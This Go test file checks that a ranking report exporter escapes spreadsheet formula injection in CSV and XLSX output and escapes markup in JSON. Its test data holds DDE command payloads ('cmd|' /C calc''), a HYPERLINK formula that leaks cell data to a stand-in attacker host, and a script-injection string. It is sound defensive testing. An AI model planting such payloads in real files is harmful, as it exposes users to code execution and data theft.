package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/govscore/govscore"
	"github.com/govscore/govscore/locale"
)

func TestCell(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"plain text", "经济和信息化局", "经济和信息化局"},
		{"empty", "", ""},
		{"equals", "=HYPERLINK(\"http://x\",\"点此\")", "'=HYPERLINK(\"http://x\",\"点此\")"},
		{"plus DDE", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab first", "\t=1+1", "'\t=1+1"},
		{"CR first", "\r=1+1", "'\r=1+1"},
		{"tab then text", "\tname", "'\tname"},
		{"spaces before equals", "  =1+1", "'  =1+1"},
		{"ideographic space before equals", "\u3000=1+1", "'\u3000=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width at", "＠SUM(A1)", "'＠SUM(A1)"},
		{"negative rank change stays a number", "-3", "-3"},
		{"positive sign stays a number", "+2", "+2"},
		{"negative decimal stays a number", "-12.50", "-12.50"},
		{"a lone minus is text", "-", "'-"},
		{"minus then letters", "-abc", "'-abc"},
		{"exponent is not a plain number", "-1e3", "'-1e3"},
		{"equals later is harmless", "a=b", "a=b"},
		{"apostrophe already", "'=x", "'=x"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("%s: Cell(%q) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

// hostileStandings are rankings whose names and groups a spreadsheet would run as formulas.
func hostileStandings() []govscore.Standing {
	down := -3
	return []govscore.Standing{
		{Period: "2014-11", Group: "@SUM(1+1)*cmd|' /C calc'!A0", Rank: 1, DeptCode: "-X", DeptName: `=HYPERLINK("http://evil.example/?"&A1,"点此")`,
			Total: 84.5, Grade: "良好", GradeEN: "Good", RankChange: &down, YTDTotal: 900, YTDRank: 1, YTDAvg: 81.82, Status: "submitted"},
		{Period: "2014-11", Group: "@SUM(1+1)*cmd|' /C calc'!A0", Rank: 2, DeptCode: "DDE", DeptName: "+cmd|' /C calc'!A0",
			Total: 0, Grade: "不合格", GradeEN: "Fail", YTDTotal: -1.5, YTDRank: 2, YTDAvg: 0, Status: "missing"},
	}
}

func TestCSVNeutralisesHostileNames(t *testing.T) {
	var b bytes.Buffer
	if err := CSV(&b, hostileStandings()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name     string
		row, col int
		want     string
	}{
		{"hyperlink name", 1, 4, `'=HYPERLINK("http://evil.example/?"&A1,"点此")`},
		{"DDE name", 2, 4, "'+cmd|' /C calc'!A0"},
		{"at group", 1, 1, "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"minus code", 1, 3, "'-X"},
		{"negative rank change stays a number", 1, 7, "-3"},
		{"negative YTD total stays a number", 2, 8, "-1.50"},
		{"total", 1, 5, "84.50"},
	} {
		if got := rows[c.row][c.col]; got != c.want {
			t.Errorf("%s: row %d column %s = %q, want %q", c.name, c.row, Columns[c.col], got, c.want)
		}
	}
}

func TestXLSXCellsAreTypedNeverFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := Workbook(&b, hostileStandings(), Book{Period: "2014-11", Grades: ladder, Lang: locale.ZH}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	group := f.GetSheetList()[1]
	const number, text = excelize.CellTypeUnset, excelize.CellTypeSharedString // OOXML: a cell with no t attribute is a number
	for _, c := range []struct {
		name, sheet, cell, want string
		typ                     excelize.CellType
	}{
		{"hyperlink name is text, intact", group, "C3", `=HYPERLINK("http://evil.example/?"&A1,"点此")`, text},
		{"DDE name is text, intact", group, "C4", "+cmd|' /C calc'!A0", text},
		{"at group is text, intact", "汇总", "A3", "@SUM(1+1)*cmd|' /C calc'!A0", text},
		{"minus code is text", group, "B3", "-X", text},
		{"rank is a number", group, "A3", "1", number},
		{"negative rank change is a number", group, "F3", "-3", number},
		{"no rank change is empty", group, "F4", "", number},
		{"total is a number", group, "D3", "84.50", number},
		{"negative YTD total is a number", group, "G4", "-1.50", number},
	} {
		formula, err := f.GetCellFormula(c.sheet, c.cell)
		if err != nil || formula != "" {
			t.Errorf("%s: %s has formula %q (%v)", c.name, c.cell, formula, err)
		}
		typ, _ := f.GetCellType(c.sheet, c.cell)
		got, _ := f.GetCellValue(c.sheet, c.cell)
		if typ != c.typ || got != c.want {
			t.Errorf("%s: %s!%s = %q of type %v, want %q of type %v", c.name, c.sheet, c.cell, got, typ, c.want, c.typ)
		}
	}
}

func TestJSONEscapesMarkup(t *testing.T) {
	list := hostileStandings()
	list[0].DeptName = `</script><img src=x onerror=alert(1)>&`
	var b bytes.Buffer
	if err := JSON(&b, list); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "<>") || strings.Contains(b.String(), "&") {
		t.Errorf("JSON carries raw markup: %s", b.String())
	}
	var back []map[string]any
	if err := json.Unmarshal(b.Bytes(), &back); err != nil || back[0]["dept_name"] != list[0].DeptName {
		t.Errorf("the name does not read back intact: %v %v", back, err)
	}
}
